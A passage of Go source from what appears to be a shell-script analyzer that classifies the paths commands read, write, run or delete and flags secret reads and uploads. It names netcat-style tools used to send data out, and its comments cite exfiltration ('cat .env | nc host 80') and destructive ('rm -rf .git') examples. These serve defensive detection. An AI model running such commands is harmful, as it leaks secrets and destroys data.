		case a.text == "--" || a.text == "-" || len(a.text) < 2 || a.text[0] != '-' && a.text[0] != '+':
			return false
		default:
			if a.text[0] == '-' && strings.ContainsRune(a.text, 'k') {
				return true
			}
			names += strings.Count(a.text, "o")
		}
	}
	return false
}

// forgetAssigned drops the variables read, mapfile, getopts and printf -v
// assign: their values come from input or formatting.
func (r *run) forgetAssigned(name string, args []field, st *state) {
	setWild := func(v string, dynamic bool) {
		st.setWild(v)
		r.bashVarWritten(v, name+" "+v, false, st, -1)
		if dynamic {
			// printf -v "$name": which variable is set is not known (PS4,
			// BASH_CMDS[x] …), as for declare "$name=value"
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + v, Cmd: -1})
		}
	}
	switch name {
	case "printf":
		for k := 0; k < len(args); k++ {
			if args[k].text == "-v" && k+1 < len(args) {
				setWild(args[k+1].text, args[k+1].dynamic)
			} else if v, ok := strings.CutPrefix(args[k].text, "-v"); ok && v != "" {
				setWild(v, args[k].dynamic) // printf -vNAME
			}
		}
	case "getopts":
		if len(args) > 1 {
			setWild(args[1].text, args[1].dynamic)
		}
	default:
		valueOpts := map[string]bool{"-a": true, "-d": true, "-n": true, "-N": true, "-p": true, "-t": true, "-u": true, "-i": true}
		if name != "read" {
			// mapfile/readarray: -t is a flag
			valueOpts = map[string]bool{"-d": true, "-n": true, "-O": true, "-s": true, "-u": true, "-C": true, "-c": true}
		}
		named := false
		for k := 0; k < len(args); k++ {
			t := args[k].text
			if valueOpts[t] {
				if t == "-a" && k+1 < len(args) {
					setWild(args[k+1].text, args[k+1].dynamic)
				}
				k++
				continue
			}
			if strings.HasPrefix(t, "-") {
				if i := strings.IndexAny(t[1:], "adnNptui"); name == "read" && i >= 0 && t[1+i] == 'a' && 2+i < len(t) {
					setWild(t[2+i:], args[k].dynamic) // read -raNAME
				}
				continue
			}
			setWild(t, args[k].dynamic)
			named = true
		}
		if !named {
			st.setWild("REPLY")
			st.setWild("MAPFILE")
		}
	}
}

func (r *run) setAlias(st *state, name, body string) {
	if st.aliases == nil {
		st.aliases = map[string]string{}
	}
	st.aliases[name] = body
}

// cdpath reports whether CDPATH is set for command idx (in the shell or as
// a prefix assignment of the command itself).
func (r *run) cdpath(st *state, idx int) bool {
	if _, ok := st.vars["CDPATH"]; ok {
		return true
	}
	_, ok := r.facts.Commands[idx].Env["CDPATH"]
	return ok
}

// isStdinPath names the standard input as a file.
func isStdinPath(s string) bool {
	return s == "/dev/stdin" || s == "/dev/fd/0" || s == "/proc/self/fd/0" || s == "/proc/thread-self/fd/0"
}

// ln: link names are written; a symbolic link's target is read relative to
// the link's directory, and the link is remembered so later paths through it
// resolve to where it points.
func (r *run) ln(idx int, args []field, st *state) error {
	args = expandArgs(args, "--target-directory", "--no-target-directory", "--symbolic", "--suffix", "--relative", "--backup",
		"--directory", "--force", "--interactive", "--logical", "--no-dereference", "--physical", "--verbose", "--help", "--version")
	symbolic, noTarget, relative, noDeref := false, false, false, false
	var targetDir *field
	var ops []field
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		switch {
		case a.dynamic || !strings.HasPrefix(t, "-") || t == "-":
			ops = append(ops, a)
		case t == "--":
			ops = append(ops, args[k+1:]...)
			k = len(args)
		case t == "-t" || t == "--target-directory":
			if k+1 < len(args) {
				v := args[k+1]
				targetDir = &v
				k++
			}
		case strings.HasPrefix(t, "--target-directory="):
			v := field{text: strings.TrimPrefix(t, "--target-directory="), pattern: strings.TrimPrefix(t, "--target-directory=")}
			targetDir = &v
		case t == "--symbolic":
			symbolic = true
		case t == "--relative":
			relative = true
		case t == "--no-target-directory":
			noTarget = true
		case t == "--no-dereference":
			noDeref = true
		case t == "-S" || t == "--suffix":
			k++
		case !strings.HasPrefix(t, "--"):
			symbolic = symbolic || strings.ContainsRune(t, 's')
			noTarget = noTarget || strings.ContainsRune(t, 'T')
			relative = relative || strings.ContainsRune(t[:strings.IndexByte(t+"t", 't')], 'r')
			noDeref = noDeref || strings.ContainsRune(t[:strings.IndexByte(t+"t", 't')], 'n')
			if i := strings.IndexByte(t, 't'); i >= 0 {
				if i+1 < len(t) {
					v := field{text: t[i+1:], pattern: t[i+1:]}
					targetDir = &v
				} else if k+1 < len(args) {
					v := args[k+1]
					targetDir = &v
					k++
				}
			}
		}
	}
	type pair struct{ target, link field }
	var pairs []pair
	join := func(dir, target field) field {
		return field{text: strings.TrimRight(dir.text, "/") + "/" + base(target.text), pattern: strings.TrimRight(dir.pattern, "/") + "/" + base(target.pattern), dynamic: dir.dynamic || target.dynamic}
	}
	switch {
	case targetDir != nil:
		for _, o := range ops {
			pairs = append(pairs, pair{o, join(*targetDir, o)})
		}
	case len(ops) == 1:
		pairs = append(pairs, pair{ops[0], field{text: base(ops[0].text), pattern: base(ops[0].pattern), dynamic: ops[0].dynamic}})
	case len(ops) >= 2:
		last := ops[len(ops)-1]
		// -n: a link to a directory given as the destination is replaced,
		// not entered (ln -sfn .git k with k -> src)
		intoDir := !noTarget && (len(ops) > 2 || strings.HasSuffix(last.text, "/") || r.isDir(st, last) && !(noDeref && r.linkAt(st, last)))
		for _, o := range ops[:len(ops)-1] {
			link := last
			if intoDir {
				link = join(last, o)
			}
			pairs = append(pairs, pair{o, link})
		}
	}
	for _, p := range pairs {
		if !symbolic && !p.target.dynamic && !p.link.dynamic {
			// a hard link: one file under two names, so what the script
			// wrote through either is no longer known to be the other's
			t, _, _ := r.resolve(r.absIn(st, p.target.text))
			l, _, _ := r.resolve(r.absIn(st, p.link.text))
			if r.written == nil {
				r.written = map[string]*string{}
			}
			r.written[t], r.written[l] = nil, nil
		}
		lp := r.addPath(p.link, st, "write", idx, "ln")
		if !symbolic && !p.target.dynamic && !p.link.dynamic && r.linkAt(st, p.target) && st.cwd != "" {
			// ln a/k k: a hard link to the symbolic link itself (GNU ln
			// does not follow it), read from its new place
			r.carryLinks(r.entry(r.absIn(st, p.target.text)), r.entry(r.absIn(st, p.link.text)), false)
		}
		tst := st
		if symbolic && !relative && !strings.HasPrefix(p.target.text, "/") && !strings.HasPrefix(p.target.text, "~") {
			// a relative target is relative to the link's directory (ln
			// -r takes it from the working directory and rewrites it)
			dir := path.Dir(lp.Abs)
			if lp.Zone == "unknown" {
				dir = ""
			}
			tst = &state{cwd: dir, vars: st.vars}
		}
		tp := r.addPath(p.target, tst, "read", idx, "ln")
		if symbolic && !lp.Dynamic && !tp.Dynamic && lp.Zone != "unknown" && tp.Zone != "unknown" {
			if r.links == nil {
				r.links = map[string]string{}
			}
			// the link is the entry itself, never what an old link
			// there led to (ln -sfn /etc k, k -> src: k is replaced)
			lp.Real = r.entry(lp.Abs)
			r.links[lp.Real] = tp.Real
			// what the link holds, read again from wherever it is moved
			// (cpLinks): ln -r writes the target relative to the link
			text := p.target.text
			switch {
			case relative:
				text = ""
				if rel, err := filepath.Rel(path.Dir(lp.Real), tp.Real); err == nil {
					text = rel
				}
			case strings.HasPrefix(text, "~"):
				text = tp.Real // expanded by the shell when ln ran
			}
			if text != "" {
				if r.linkTexts == nil {
					r.linkTexts = map[string]string{}
				}
				r.linkTexts[lp.Real] = text
			}
		}
	}
	return nil
}

func (r *run) isDir(st *state, f field) bool {
	if f.dynamic || st.cwd == "" && !strings.HasPrefix(f.text, "/") {
		return false
	}
	return r.resolvesToDir(r.absIn(st, f.text))
}

// operands adds the path operands of a command to the path set.
func (r *run) operands(idx int, name string, args []field, local *state) {
	if sp, known := specs[name]; (!known || sp.skip == 0) && name != "echo" && name != "printf" {
		r.secretArgs(idx, name, args, local)
	}
	r.roleOperands(idx, name, args, local)
}

// secretArgs counts any argument naming a secret by absolute or home path
// as a read: options the argument table does not know may take file names.
//
// Besides the argument itself and the value after "=", it looks at the
// file an "@FILE" argument names (a response file: gcc, ld, rustc, javac
// and many others read it as more arguments, and echo each they cannot
// use in an error message) and at a value glued to a short option at the
// end of a cluster ("-qF/abs/path": git commit, config -f, grep -f).
func (r *run) secretArgs(idx int, name string, args []field, local *state) {
	for _, a := range args {
		if a.dynamic {
			continue
		}
		secretCandidates(a.text, func(t string) {
			abs := path.Clean(r.tilde(t))
			if s, _ := r.cls.sensitive(abs, r.cls.zone(abs)); s {
				r.addPath(field{text: t, pattern: t}, local, "read", idx, name)
			}
		})
	}
}

// secretCandidates passes found the absolute or home paths an argument
// may name, for secretArgs.
func secretCandidates(arg string, found func(string)) {
	try := func(t string) {
		if i := strings.IndexByte(t, ':'); i > 0 {
			t = t[:i] // SRC:DST (bind mounts, scp)
		}
		if strings.HasPrefix(t, "/") || strings.HasPrefix(t, "~") {
			found(t)
		}
	}
	t := arg
	if i := strings.IndexByte(t, '='); i > 0 && !strings.ContainsAny(t[:i], "/~") {
		t = t[i+1:] // --opt=PATH, IdentityFile=PATH
	}
	try(t)
	if rest, ok := strings.CutPrefix(t, "@"); ok {
		try(rest) // @FILE, --opt=@FILE
	}
	if strings.HasPrefix(arg, "-") && !strings.HasPrefix(arg, "--") {
		// -qF/path: the value of the cluster's last option (~ is not
		// expanded inside a word, so only an absolute path)
		if i := strings.IndexByte(arg, '/'); i > 1 && !strings.Contains(arg[:i], "=") {
			try(arg[i:])
		}
	}
}

func (r *run) roleOperands(idx int, name string, args []field, local *state) {
	keepsLinks := actsOnLinks(name, args)
	for _, o := range classifyArgs(name, lookupSpec(name), args) {
		role := o.role
		if keepsLinks && !o.f.dynamic && !o.f.glob {
			o.f.noFollow = true
		}
		if role == "maybe" {
			// not in the table and not path-like: a path only if it names an entry
			if local.cwd == "" || o.f.dynamic {
				continue
			}
			if _, exists, _ := r.resolve(local.cwd + "/" + o.f.text); !exists {
				continue
			}
			role = "read"
		}
		if role == "guessed" {
			// an argument of a command not in the table that looks like a
			// path: a read, marked so the policy knows it is a guess
			r.addPath(o.f, local, "read", idx, name)
			r.facts.Paths[len(r.facts.Paths)-1].Role = "guessed"
			continue
		}
		if role == "upload" {
			r.addPath(o.f, local, "read", idx, name)
			r.facts.Paths[len(r.facts.Paths)-1].Role = "upload"
			continue
		}
		r.addPath(o.f, local, role, idx, name)
	}
}

// actsOnLinks says whether a command acts on a symbolic link operand
// itself rather than on its target: rm and unlink remove the link,
// readlink prints it (unless it canonicalizes: -f, -e, -m), stat and ls -l
// or ls -d describe it (unless -L).
func actsOnLinks(name string, args []field) bool {
	switch name {
	case "rm", "unlink":
		return true
	case "readlink":
		return !hasOpt(args, 'f', "--canonicalize") && !hasOpt(args, 'e', "--canonicalize-existing") && !hasOpt(args, 'm', "--canonicalize-missing")
	case "stat":
		return !hasOpt(args, 'L', "--dereference")
	case "ls":
		return (hasOpt(args, 'l') || hasOpt(args, 'd', "--directory")) && !hasOpt(args, 'L', "--dereference") && !hasOpt(args, 'H', "--dereference-command-line")
	}
	return false
}

// keepsLinks says whether a command given a symbolic link by name takes
// the link as it is, unfollowed (moved, archived or copied as a link),
// for entryLinks.
func keepsLinks(name string, args []field) bool {
	switch name {
	case "mv", "git", "find", "ln", "du", "go":
		return true
	case "cpio":
		return !hasOpt(args, 'L', "--dereference")
	case "tar":
		return !hasOpt(args, 'h', "--dereference")
	case "rsync":
		return !hasOpt(args, 'L', "--copy-links")
	case "zip":
		return hasOpt(args, 'y', "--symlinks")
	case "cp":
		return hasOpt(args, 'P', "--no-dereference") || hasOpt(args, 'd') || hasOpt(args, 'a', "--archive") ||
			(hasOpt(args, 'r', "--recursive") || hasOpt(args, 'R')) && !hasOpt(args, 'L', "--dereference") && !hasOpt(args, 'H')
	}
	return false
}

func (r *run) evalArgs(idx int, args []field, st *state, sc scope) error {
	parts := make([]string, 0, len(args))
	for _, a := range args {
		if a.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "eval", Text: a.text, Cmd: idx})
			return nil
		}
		parts = append(parts, a.text)
	}
	if len(parts) == 0 {
		return nil
	}
	// eval runs in the current shell: what it assigns stays
	return r.nestedIn(strings.Join(parts, " "), st, sc, "nested-shell", stdin{})
}

// shell handles sh/bash/…: -c scripts are parsed again, script files are
// exec paths, and a script read from stdin must be literal.
func (r *run) shell(idx int, name string, args []field, st *state, sc scope, in stdin) error {
	i, cmdMode, readsStdin, startsInteractive := 0, false, false, false
	// The start-up file of a non-interactive bash (BASH_ENV) or of sh (ENV)
	// runs before its script: the shell's variable (judged as if exported;
	// the command's own assignment meaning judged).
	for _, v := range []string{"BASH_ENV", "ENV"} {
		if _, own := r.commandEnv(idx, v); own {
			continue
		}
		if val, ok := st.vars[v]; ok && val != "" {
			if err := r.startupFile(idx, name, v+"="+val, r.word(val), st, sc, in); err != nil {
				return err
			}
		}
	}
	startsInteractive = r.login[idx]
	defer func() {
		if startsInteractive {
			r.startupHome(idx, name, st)
		}
	}()
	for i < len(args) {
		a := args[i]
		if a.dynamic {
			break
		}
		t := a.text
		if t == "--" || t == "-" {
			i++
			break
		}
		if strings.HasPrefix(t, "--") {
			if (t == "--rcfile" || t == "--init-file") && i+1 < len(args) {
				if err := r.startupFile(idx, name, t+" "+args[i+1].text, args[i+1], st, sc, in); err != nil {
					return err
				}
				i++
			}
			if t == "--command" {
				cmdMode = true
			}
			if (t == "--version" || t == "--help") && i == 0 {
				// bash --version prints and exits: no script is read
				return nil
			}
			if t == "--login" || t == "--interactive" {
				startsInteractive = true
			}
			i++
			continue
		}
		if len(t) > 1 && (t[0] == '-' || t[0] == '+') {
			for _, ch := range t[1:] {
				switch ch {
				case 'c':
					cmdMode = true
				case 's':
					readsStdin = true
				case 'i', 'l':
					startsInteractive = true
				case 'k':
					if t[0] == '-' {
						r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t + ": assignments after a command name go to its environment", Cmd: idx})
						return nil
					}
				case 'o', 'O':
					if i+1 < len(args) && (args[i+1].dynamic || ch == 'o' && args[i+1].text == "keyword") {
						r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " -o " + args[i+1].text, Cmd: idx})
						return nil
					}
					if ch == 'O' && t[0] == '-' && i+1 < len(args) {
						// bash -O xpg_echo: a shell option of the script
						if args[i+1].dynamic {
							r.globOpts = true
						} else {
							r.setShopt(args[i+1].text)
						}
					}
					i++
				}
			}
			i++
			continue
		}
		break
	}
	if cmdMode {
		if i >= len(args) {
			return nil
		}
		s := args[i]
		if s.dynamic {
			kind := "nested_script"
			if s.proc {
				kind = "procsubst_script"
			}
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: kind, Text: s.text, Cmd: idx})
			return nil
		}
		if err := r.nested(s.text, r.childState(idx, st), sc, "nested-shell"); err != nil {
			return err
		}
		r.guessRest(idx, name, args[i+1:], st)
		return nil
	}
	if i < len(args) && !readsStdin && isStdinPath(args[i].text) {
		return r.stdinScript(idx, st, sc, in, true)
	}
	if i < len(args) && !readsStdin && fdPath(args[i].text) {
		// bash /dev/fd/3 3<<< '…': what another descriptor holds
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "procsubst_script", Text: args[i].text, Cmd: idx})
		return nil
	}
	if i < len(args) && !readsStdin {
		f := args[i]
		if f.proc || f.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "procsubst_script", Text: f.text, Cmd: idx})
		} else {
			p := r.addPath(f, st, "exec", idx, name)
			if _, err := r.runsWritten(idx, p, st, sc, true); err != nil {
				return err
			}
		}
		r.guessRest(idx, name, args[i+1:], st)
		return nil
	}
	return r.stdinScript(idx, st, sc, in, true)
}

// startupFile judges a file a shell runs before anything else (BASH_ENV,
// ENV, --rcfile, --init-file), described by what: the standard input is
// the script read from it; a descriptor or what a command prints is not
// known; a file is run (an exec path), and its text is analysed when the
// script wrote it.
func (r *run) startupFile(idx int, name, what string, f field, st *state, sc scope, in stdin) error {
	switch {
	case f.proc || f.dynamic:
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "procsubst_script", Text: what, Cmd: idx})
		return nil
	case isStdinPath(f.text):
		return r.stdinScript(idx, st, sc, in, true)
	case fdPath(f.text):
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "procsubst_script", Text: what, Cmd: idx})
		return nil
	}
	p := r.addPath(f, st, "exec", idx, name)
	_, err := r.runsWritten(idx, p, st, sc, true)
	return err
}

// startupHome judges the start-up files an interactive or login shell
// reads from $HOME (.bashrc, .profile, .bash_logout …): the user's own,
// unless the script points HOME elsewhere (HOME=$PWD bash -ic :), where
// any file may stand in for them.
func (r *run) startupHome(idx int, name string, st *state) {
	home, ok := r.commandEnv(idx, "HOME")
	if !ok {
		home, ok = st.vars["HOME"]
	}
	if ok && (home != r.opts.Home || r.opts.Home == "") {
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " reads its start-up files from HOME=" + home, Cmd: idx})
	}
}

// childState is the state a shell started by command idx begins in: the
// command's own assignments are in its environment (HOME=. bash -c '…').
func (r *run) childState(idx int, st *state) *state {
	if idx < 0 || idx >= len(r.facts.Commands) || len(r.facts.Commands[idx].Env) == 0 {
		return st
	}
	child := st.clone()
	for k, v := range r.facts.Commands[idx].Env {
		child.setScalar(k, v)
	}
	return child
}

// prefixed gives st, for the time of command idx, the values the
// command's own assignments set, and returns what puts the old ones back
// (a name the command's code changed otherwise is left unknown).
func (r *run) prefixed(idx int, st *state) (undo func()) {
	if idx < 0 || idx >= len(r.facts.Commands) || len(r.facts.Commands[idx].Env) == 0 {
		return func() {}
	}
	before := st.clone()
	env := r.facts.Commands[idx].Env
	for k, v := range env {
		st.setScalar(k, v)
	}
	return func() {
		for k, v := range env {
			now, ok := st.vars[k]
			switch {
			case ok && now == v:
				if old, had := before.vars[k]; had {
					st.vars[k] = old
				} else {
					delete(st.vars, k)
				}
			default:
				st.setWild(k)
			}
		}
	}
}

// declBuiltins keep what their command's own assignments set (x=v export
// x); specialBuiltins do so in POSIX mode.
var (
	declBuiltins    = map[string]bool{"export": true, "readonly": true, "declare": true, "typeset": true, "local": true}
	specialBuiltins = map[string]bool{":": true, ".": true, "break": true, "continue": true, "eval": true, "exec": true,
		"exit": true, "return": true, "set": true, "shift": true, "times": true, "trap": true, "unset": true, "source": true}
)

// markLogin records that command idx starts as a login shell does.
func (r *run) markLogin(idx int) {
	if r.login == nil {
		r.login = map[int]bool{}
	}
	r.login[idx] = true
}

// commandEnv is the value command idx's own assignments give name.
func (r *run) commandEnv(idx int, name string) (string, bool) {
	if idx < 0 || idx >= len(r.facts.Commands) {
		return "", false
	}
	v, ok := r.facts.Commands[idx].Env[name]
	return v, ok
}

// fdPath names a descriptor other than the standard input as a file.
func fdPath(s string) bool {
	for _, d := range []string{"/dev/fd/", "/proc/self/fd/", "/proc/thread-self/fd/"} {
		if n, ok := strings.CutPrefix(s, d); ok && n != "0" && n != "" && strings.Trim(n, "0123456789") == "" {
			return true
		}
	}
	return false
}

// guessRest treats trailing arguments of a script like those of an unknown command.
func (r *run) guessRest(idx int, name string, args []field, st *state) {
	for _, o := range classifyArgs(name, spec{role: "guess"}, args) {
		if o.role == "maybe" || o.f.proc {
			continue
		}
		if o.role == "guessed" {
			r.addPath(o.f, st, "read", idx, name)
			r.facts.Paths[len(r.facts.Paths)-1].Role = "guessed"
			continue
		}
		r.addPath(o.f, st, o.role, idx, name)
	}
}

// sendsStdin says whether name sends what it reads on stdin to the host it
// connects to: netcats, socat, telnet, ssh (to the remote command or
// shell), openssl s_client.
func (a *Analyzer) sendsStdin(name string) bool {
	switch name {
	case "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "pwncat", "socat", "telnet", "ssh", "autossh", "openssl":
		return true
	}
	for _, g := range a.groupsOf(name) {
		if g == "netcats" {
			return true
		}
	}
	return false
}

// stdinSent records the input of a command that sends its stdin to another
// host, when that input is not literal text: command output piped in (cat
// .env | nc host 80), a here-document or here-string with expansions. A
// file redirected in is an upload path (stmtOut).
func (r *run) stdinSent(idx int, name string, in stdin) {
	if in.literal != nil {
		return
	}
	text := ""
	switch in.kind {
	case "pipe":
		text = "piped into " + name
		if in.from != "" {
			text = in.from + " | " + name
		}
	case "procsubst", "heredoc", "herestring":
		text = "a " + in.kind + " with expansions"
	default:
		return
	}
	r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "upload", Text: text, Cmd: idx})
}

func (r *run) stdinScript(idx int, st *state, sc scope, in stdin, parse bool) error {
	switch in.kind {
	case "pipe", "heredoc", "herestring", "procsubst":
		if in.literal == nil {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "stdin_script", Text: "script read from " + in.kind, Cmd: idx})
			return nil
		}
		if parse && strings.TrimSpace(*in.literal) != "" {
			return r.nested(*in.literal, st, sc, "nested-shell")
		}
	case "file":
		// bash < s: the file is the script, as for bash s
		if in.path != "" {
			_, err := r.runsWritten(idx, Path{Raw: in.path, Real: in.path}, st, sc, parse)
			return err
		}
	case "":
		// the standard input the script itself was given, which exec <
		// or a redirection around a compound command may have replaced
		// (exec <<< '…'; bash): nothing known of what it holds
		if parse {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "stdin_script", Text: "script read from the standard input the command inherits", Cmd: idx})
		}
	}
	return nil
}

// interpreter handles python/perl/node/…: inline code is left to the
// sandbox; a script file is an exec path; a script on stdin must be literal;
// files loaded by options (-r, -I, --require, --env-file) are exec paths;
// in-place editing (perl -i, ruby -i, gawk -i inplace) writes its operands.
func (r *run) interpreter(idx int, name string, args []field, st *state, sc scope, in stdin) error {
	isAwk := strings.HasSuffix(name, "awk")
	inline, inPlace := false, false
	value := func(i int) (field, bool) {
		if i < len(args) {
			return args[i], true
		}
		return field{}, false
	}
	loads := func(v field) {
		t := v.text
		if _, after, ok := strings.Cut(t, "="); ok && strings.HasPrefix(t, "-") {
			t = after
		}
		if looksLikePath(t) || v.dynamic {
			r.addPath(field{text: t, pattern: t, dynamic: v.dynamic, subst: v.subst}, st, "exec", idx, name)
		}
	}
	i := 0
	var rest []field
options:
	for i < len(args) {
		a := args[i]
		t := a.text
		switch {
		case a.dynamic && !inline:
			break options
		case t == "-":
			break options
		case t == "--":
			i++
			break options
		case len(t) < 2 || t[0] != '-':
			break options
		case t == "-c" || t == "-e" || t == "-E" || t == "--eval" || t == "-p" || t == "--print" || t == "--command" || t == "-r" && name == "php":
			inline = true
			if v, ok := value(i + 1); ok && v.dynamic {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: v.text, Cmd: idx})
			}
			i += 2
		case t == "-m" && !isAwk:
			// python -m MODULE ARGS: the rest belongs to the module
			inline = true
			rest = args[min(i+2, len(args)):]
			if v, ok := value(i + 1); ok {
				r.pythonModule(idx, name, v.text, rest, st)
			}
			r.guessRest(idx, name, rest, st)
			return nil
		case isAwk && (t == "-f" || t == "--file"):
			if v, ok := value(i + 1); ok {
				r.addPath(v, st, "exec", idx, name)
			}
			inline = true
			i += 2
		case isAwk && (t == "-i" || t == "--include"):
			if v, ok := value(i + 1); ok && (v.text == "inplace" || strings.HasPrefix(v.text, "inplace")) {
				inPlace = true
			} else if ok {
				loads(v)
			}
			i += 2
		case t == "-r" || t == "--require" || t == "-I" || t == "--import" || t == "--loader" || t == "--experimental-loader" || t == "--env-file" || t == "--preload" || t == "-M" && !isAwk:
			if v, ok := value(i + 1); ok {
				loads(v)
			}
			i += 2
		case t == "-W" || t == "-X" || t == "-v" || t == "-F" || t == "-Q" || t == "-O" && name == "perl":
			i += 2
		case strings.HasPrefix(t, "--require=") || strings.HasPrefix(t, "--import=") || strings.HasPrefix(t, "--loader=") || strings.HasPrefix(t, "--env-file=") || strings.HasPrefix(t, "--experimental-loader="):
			loads(a)
			i++
		case !strings.HasPrefix(t, "--") && (strings.HasPrefix(t, "-r") || strings.HasPrefix(t, "-I") || strings.HasPrefix(t, "-M")) && len(t) > 2 && name != "php" && !isAwk:
			loads(field{text: t[2:], pattern: t[2:], dynamic: a.dynamic})
			i++
		default:
			if !strings.HasPrefix(t, "--") {
				// a cluster such as -pi, -ne, -lane, -c'…' attached
				letters := t[1:]
				if (name == "perl" || name == "ruby") && strings.ContainsRune(letters, 'i') {
					inPlace = true
				}
				if k := strings.IndexAny(letters, "ceE"); k >= 0 && name != "php" {
					inline = true
					if k == len(letters)-1 {
						// the code is the next argument
						if v, ok := value(i + 1); ok && v.dynamic {
							r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: v.text, Cmd: idx})
						}
						i++
					}
				}
			}
			i++
		}
	}
	rest = args[min(i, len(args)):]
	if !inline && len(rest) > 0 && rest[0].text != "-" {
		if isAwk {
			if rest[0].dynamic {
				// awk "$(cat prog)": the program is not known, as for -e
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: rest[0].text, Cmd: idx})
			}
			rest = rest[1:] // the program text
			inline = true
		} else {
			f := rest[0]
			if f.proc || f.dynamic && f.subst {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "procsubst_script", Text: f.text, Cmd: idx})
			} else if p := r.addPath(f, st, "exec", idx, name); !isStdinPath(f.text) {
				if _, err := r.runsWritten(idx, p, st, sc, false); err != nil {
					return err
				}
			} else if err := r.stdinScript(idx, st, sc, in, false); err != nil {
				return err
			}
			rest = rest[1:]
			inline = true
		}
	}
	if inPlace {
		for _, a := range rest {
			if !strings.HasPrefix(a.text, "-") || a.dynamic {
				r.addPath(a, st, "write", idx, name)
			}
		}
		return nil
	}
	r.guessRest(idx, name, rest, st)
	if !inline {
		return r.stdinScript(idx, st, sc, in, false)
	}
	return nil
}

func (r *run) cd(idx int, name string, args []field, st, local *state) error {
	// where the script is if this cd fails (see below)
	before := st.clone()
	// bash's cd, pushd and popd set PWD to where they land: a value the
	// script assigned no longer stands, $PWD is the working directory
	// again (env.Get)
	delete(st.vars, "PWD")
	var target *field
	for k := range args {
		if args[k].text == "--" || strings.HasPrefix(args[k].text, "-") && len(args[k].text) > 1 && args[k].text != "-" && !args[k].dynamic {
			continue
		}
		target = &args[k]
		break
	}
	switch {
	case (name == "pushd" || name == "popd") && target != nil && (strings.HasPrefix(target.text, "+") || strings.HasPrefix(target.text, "-") && len(target.text) > 1):
		// rotating the directory stack: where it lands is not tracked
		st.cwd, st.cwdReal = "", false
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "cwd", Text: name + " " + target.text, Cmd: idx})
		return nil
	case name == "popd":
		if n := len(st.dirs); n > 0 {
			st.cwd = st.dirs[n-1]
			st.dirs = st.dirs[:n-1]
		} else {
			st.cwd = ""
		}
		st.cwdReal = false
		return nil
	case target == nil:
		target = &field{text: "~", pattern: "~"}
		if r.opts.Home != "" {
			target = &field{text: r.opts.Home, pattern: r.opts.Home}
		}
	case !strings.HasPrefix(target.text, "/") && target.text != "." && target.text != ".." && !strings.HasPrefix(target.text, "./") && !strings.HasPrefix(target.text, "../") && r.cdpath(st, idx):
		// with CDPATH set, a relative cd may land anywhere on it
		st.cwd, st.cwdReal = "", false
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "cwd", Text: "CDPATH cd " + target.text, Cmd: idx})
		r.addPath(field{text: target.text, pattern: "*", dynamic: true, wild: true}, local, "cwd", idx, name)
		return nil
	case target.text == "-" && !target.dynamic:
		if old, ok := st.vars["OLDPWD"]; ok {
			target = &field{text: old, pattern: old}
		} else {
			st.cwd = ""
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "cwd", Text: "cd -", Cmd: idx})
			return nil
		}
	}
	p := r.addPath(*target, local, "cwd", idx, name)
	if name == "pushd" {
		st.dirs = append(st.dirs, st.cwd)
	}
	// cd sets OLDPWD to where it left (cd -, $OLDPWD)
	if st.cwd != "" {
		st.vars["OLDPWD"] = st.cwd
		delete(st.wild, "OLDPWD")
	} else {
		st.setWild("OLDPWD")
	}
	if p.Dynamic || p.Zone == "unknown" {
		st.cwd, st.cwdReal = "", false
		return nil
	}
	if (!p.Exists || !r.realDir(p.Real)) && !r.madeDirs[p.Real] && !r.scriptWrote(p.Real) || r.removedBefore(p.Real) {
		// No such directory now, and no earlier command of the script
		// makes it that the analysis knows of (an archive unpacked may),
		// or an earlier command removes it: the cd may fail, and bash
		// then goes on in the directory it was in (cd /nowhere; rm -rf
		// .git removes the workspace's). What follows is judged in both,
		// unless a && stops it on failure.
		before.dirs = st.dirs
		st.failed = before
	}
	st.cwd, st.cwdReal = p.Real, realDir(p)
	return nil
}

// removedBefore says whether, after the script's commands so far, dir is
// gone: an earlier command deletes or moves away it or a directory above
// it, and no mkdir after that makes it again.
func (r *run) removedBefore(dir string) bool {
	gone := false
	for _, q := range r.facts.Paths {
		switch {
		case q.Glob || q.Dynamic:
		case q.Access == "delete" && under(dir, q.Real):
			gone = true
		case q.Access == "write" && q.Command == "mkdir" && q.Real == dir:
			gone = false
		}
	}
	return gone
}

// find: start paths are read; -delete deletes them; -exec runs a command on
// what is found (written as start/{}); -fprint writes.
func (r *run) find(idx int, args []field, st *state, sc scope) error {
	var starts []field
	k := 0
	for ; k < len(args); k++ {
		t := args[k].text
		if t == "-H" || t == "-L" || t == "-P" || strings.HasPrefix(t, "-O") || strings.HasPrefix(t, "-D") {
			continue
		}
		if !args[k].dynamic && (strings.HasPrefix(t, "-") || t == "(" || t == "!" || t == ")") {
			break
		}
		starts = append(starts, args[k])
	}
	if len(starts) == 0 {
		starts = []field{{text: ".", pattern: "."}}
	}
	access := "read"
	filtered, maxdepth0 := false, false
	for j := k; j < len(args); j++ {
		switch args[j].text {
		case "-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex", "-newer", "-mtime", "-mmin",
